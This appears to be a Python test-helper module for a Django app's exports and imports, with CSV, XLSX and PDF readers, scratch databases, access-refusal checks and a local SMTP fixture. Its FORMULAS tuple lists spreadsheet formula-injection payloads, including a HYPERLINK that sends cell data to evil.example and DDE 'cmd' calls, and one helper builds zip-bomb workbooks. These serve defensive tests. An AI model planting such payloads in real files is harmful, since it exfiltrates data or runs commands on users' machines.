"""Test helpers for every app's exports and imports: texts a spreadsheet would run as
formulas, CSV and XLSX files read back as an officer's spreadsheet sees them, and
uploads of tables built as an officer's spreadsheet writes them. And for tests that
run `manage.py` in another process (a task worker, the migrations): an empty database of
the suite's own kind for it."""

from __future__ import annotations

import csv
import email
import email.policy
import io
import os
import re
import socket
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from email.message import EmailMessage
from pathlib import Path
from typing import IO, Any
from urllib.parse import quote

import psycopg
import pytest
from aiosmtpd.controller import Controller
from django.conf import settings
from django.contrib.auth.base_user import AbstractBaseUser
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.shortcuts import resolve_url
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import Cell, MergedCell
from pytest_django import Settings

from .exports import XLSX_CONTENT_TYPE

# One text per character a spreadsheet reads as the start of a formula (OWASP).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def csv_table(content: bytes) -> list[list[str]]:
    """The rows of an exported CSV, which must start with the UTF-8 byte-order mark."""
    text = content.decode("utf-8")
    if not text.startswith("\ufeff"):
        raise AssertionError("an export is UTF-8 with a BOM, for Excel")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def xlsx_cells(content: bytes, sheet: int = 0) -> list[list[Cell | MergedCell]]:
    """The cells of a sheet of an exported workbook, by row (the header first)."""
    workbook = load_workbook(io.BytesIO(content))
    return [list(row) for row in workbook.worksheets[sheet].iter_rows()]


def xlsx_formulas(content: bytes) -> list[Any]:
    """Every cell of the workbook that a spreadsheet would compute: none, in an export."""
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@contextmanager
def scratch_database(name: str, folder: Path) -> Iterator[str]:
    """The URL of an empty database of the kind the suite runs on, for another process to
    migrate and use: a SpatiaLite file in `folder`; on PostGIS, the database
    `<database>_<name>` on the same server (`langso_worker` beside `test_langso`), created
    for the test (PostGIS comes from template1) and dropped after it, along with any left
    by an interrupted run."""
    if connection.vendor != "postgresql":
        yield f"spatialite:///{folder / name}.sqlite3"
        return
    server = connection.settings_dict
    # The same name whether or not the suite's test database has been set up yet.
    database_name = f"{server['NAME'].removeprefix('test_')}_{name}"
    database = psycopg.sql.Identifier(database_name)
    user, password = str(server["USER"]), str(server["PASSWORD"] or "")
    host, port = str(server["HOST"] or "localhost"), str(server["PORT"] or 5432)
    login = quote(user, safe="") + (f":{quote(password, safe='')}" if password else "")
    with psycopg.connect(
        dbname="postgres", user=user, password=password, host=host, port=port, autocommit=True
    ) as admin:
        admin.execute(psycopg.sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(database))
        admin.execute(psycopg.sql.SQL("CREATE DATABASE {}").format(database))
        try:
            yield f"postgis://{login}@{host}:{port}/{quote(database_name, safe='')}"
        finally:
            admin.execute(psycopg.sql.SQL("DROP DATABASE {} WITH (FORCE)").format(database))


def manage(env: dict[str, str], *args: str) -> str:
    """Run this project's `manage.py` with `args` in another process with the environment
    `env`; its standard output, once it has succeeded."""
    done = subprocess.run(  # noqa: S603  # our own manage.py with the test's arguments
        [sys.executable, "manage.py", *args],
        cwd=settings.BASE_DIR,
        env=os.environ | env,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    if done.returncode != 0:
        raise AssertionError(f"manage.py {args[0]} failed:\n{done.stderr[-3000:]}")
    return done.stdout


def assert_refused_as_missing(*, route: str, pk: int, outsider: AbstractBaseUser) -> None:
    """The route of one stored object (`route` takes its pk), refused: an anonymous reader
    is sent to sign in, and `outsider` (signed in, the object outside their scope) gets
    the very 404 of an object that does not exist, so that a refusal says nothing of it."""
    url = reverse(route, args=[pk])
    anonymous = Client().get(url)
    client = Client()
    client.force_login(outsider)  # type: ignore[arg-type]  # the user model, which core may not import
    outside = client.get(url)
    missing_url = reverse(route, args=[10**9])
    missing = client.get(missing_url)
    signed_in = anonymous.status_code == 302 and anonymous["Location"].startswith(
        resolve_url(settings.LOGIN_URL)
    )
    if not signed_in or not outside.status_code == missing.status_code == 404:
        raise AssertionError(
            f"{url}: anonymous {anonymous.status_code} {anonymous.get('Location', '')}, "
            f"outsider {outside.status_code}, a missing object {missing.status_code}"
        )
    if page_less_request(outside.content, url) != page_less_request(missing.content, missing_url):
        raise AssertionError(f"{url}: the outsider's 404 differs from a missing object's")


# A form's CSRF token, masked anew for every response.
_CSRF_TOKEN = re.compile(r'name="csrfmiddlewaretoken" value="[^"]*"')


def page_less_request(content: bytes, url: str) -> str:
    """A page as the reader sees it, less what differs by request alone: the address asked
    for (the 404 page's language switch returns to it) and the CSRF token."""
    return _CSRF_TOKEN.sub("", content.decode()).replace(url, "")


def csv_upload(
    rows: Sequence[Sequence[str]],
    *,
    header: Sequence[str],
    delimiter: str = ",",
    bom: bool = False,
    name: str = "bang.csv",
) -> SimpleUploadedFile:
    """An uploaded CSV file in UTF-8 (with Excel's byte-order mark if `bom`): the header
    row, then `rows`."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    data = out.getvalue().encode("utf-8")
    return SimpleUploadedFile(name, (b"\xef\xbb\xbf" if bom else b"") + data, "text/csv")


def xlsx_upload(
    rows: Sequence[Sequence[object]], *, header: Sequence[str], name: str = "bang.xlsx"
) -> SimpleUploadedFile:
    """An uploaded XLSX workbook whose first sheet holds the header row, then `rows`."""
    workbook = Workbook()
    sheet = workbook.worksheets[0]
    sheet.append(list(header))
    for row in rows:
        sheet.append(list(row))
    out = io.BytesIO()
    workbook.save(out)
    return SimpleUploadedFile(name, out.getvalue(), XLSX_CONTENT_TYPE)


def xlsx_with_member(source: bytes, name: str, write: Callable[[IO[bytes]], None]) -> bytes:
    """A copy of the workbook `source` whose member `name` (a sheet's XML, the shared
    texts) is what `write` streams, packed at the highest level: how the tests of every
    XLSX reader build files that unpack to far more than they weigh."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(source)) as original,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as copy,
    ):
        for info in original.infolist():
            if info.filename != name:
                copy.writestr(info.filename, original.read(info))
        with copy.open(name, "w") as member:
            write(member)
    return out.getvalue()


# --- PDF documents (issue 16) -----------------------------------------------------------
# Read back with poppler-utils, as a reader's viewer would: the text it extracts, and the
# images drawn on each page.


def _poppler(tool: str, content: bytes, *args: str) -> str:
    done = subprocess.run(  # noqa: S603  # poppler-utils on a PDF we made
        [tool, *args, "-", "-"] if tool == "pdftotext" else [tool, *args, "-"],
        input=content,
        capture_output=True,
        check=True,
    )
    return done.stdout.decode("utf-8")


def pdf_text(content: bytes, *, layout: bool = True) -> str:
    """The text of a PDF as `pdftotext` reads it: layout kept (one line per table row),
    or without it, in the order it was written (a table cell's wrapped lines one after
    the other, for a long text read whole)."""
    return _poppler("pdftotext", content, "-layout" if layout else "-raw")


def pdf_images_per_page(content: bytes) -> dict[int, int]:
    """How many images `pdfimages -list` finds drawn on each page (1-based)."""
    listing = _poppler("pdfimages", content, "-list").splitlines()[2:]
    counts: dict[int, int] = {}
    for line in listing:
        page = int(line.split()[0])
        counts[page] = counts.get(page, 0) + 1
    return counts


def pdf_pages(content: bytes) -> int:
    found = re.search(r"^Pages:\s+(\d+)", _poppler("pdfinfo", content), re.M)
    if found is None:
        raise AssertionError("pdfinfo does not say how many pages the PDF has")
    return int(found[1])


# --- E-mail -----------------------------------------------------------------------


class Inbox:
    """An aiosmtpd handler that keeps every message it is given, refuses the recipients
    in `refused` as a server without that mailbox does (550), and counts the
    connections that greeted it (EHLO)."""

    def __init__(self) -> None:
        self.messages: list[tuple[list[str], EmailMessage]] = []
        self.refused: set[str] = set()
        self.connections = 0

    async def handle_EHLO(  # noqa: N802  # aiosmtpd's hook name
        self, server: Any, session: Any, envelope: Any, hostname: str, responses: list[str]
    ) -> list[str]:
        self.connections += 1
        session.host_name = hostname
        return responses

    async def handle_RCPT(  # noqa: N802  # aiosmtpd's hook name
        self, server: Any, session: Any, envelope: Any, address: str, rcpt_options: list[str]
    ) -> str:
        if address in self.refused:
            return "550 5.1.1 Mailbox unavailable"
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:  # noqa: N802  # aiosmtpd's hook name
        message = email.message_from_bytes(envelope.content, policy=email.policy.default)
        if not isinstance(message, EmailMessage):
            raise TypeError("the default policy parses into EmailMessage")
        self.messages.append((list(envelope.rcpt_tos), message))
        return "250 Message accepted for delivery"


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


@pytest.fixture
def smtp_inbox(settings: Settings) -> Iterator[Inbox]:
    """A real SMTP server (aiosmtpd) on a free local port, and the settings that send
    Django's mail to it: what every test of an e-mail reads (the root conftest
    imports it, so that every app's tests may ask for it)."""
    inbox = Inbox()
    port = free_port()
    controller = Controller(inbox, hostname="127.0.0.1", port=port)
    controller.start()
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST = "127.0.0.1"
    settings.EMAIL_PORT = port
    settings.EMAIL_USE_TLS = False
    settings.EMAIL_HOST_USER = ""
    settings.EMAIL_HOST_PASSWORD = ""
    try:
        yield inbox
    finally:
        controller.stop()
